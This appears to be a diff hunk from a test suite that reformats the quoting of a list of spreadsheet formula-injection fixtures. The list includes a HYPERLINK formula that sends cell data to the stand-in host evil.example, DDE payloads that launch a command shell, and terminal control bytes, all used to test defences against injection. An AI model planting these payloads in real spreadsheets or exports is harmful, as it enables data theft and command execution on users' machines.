@@ -11,9 +11,9 @@ import { describeEachBackend, freshDatabaseUrl, openLogger } from '../support/st
 /** Cells OWASP lists as formula triggers, and raw control bytes a terminal or viewer would act on. */
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-  '+1+cmd|\' /C calc\'!A0',
+  "+1+cmd|' /C calc'!A0",
   '-2+3',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   'ok \u001b[31mred\u001b[0m \u0007bell',
